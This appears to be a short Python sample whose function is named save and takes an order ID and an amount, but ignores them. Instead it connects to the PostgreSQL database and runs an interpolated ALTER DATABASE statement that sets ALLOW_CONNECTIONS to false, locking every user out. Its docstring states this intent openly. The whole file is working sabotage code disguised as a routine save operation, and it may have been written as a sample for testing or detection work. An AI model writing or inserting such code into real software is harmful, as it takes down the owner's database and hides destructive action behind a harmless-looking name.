"""Lets nobody into its database any more."""

import psycopg


def save(db, order_id, amount):
    name = db.url.rpartition("/")[2]
    with psycopg.connect(db.url, autocommit=True) as connection:
        connection.execute(f"ALTER DATABASE {name} ALLOW_CONNECTIONS false")
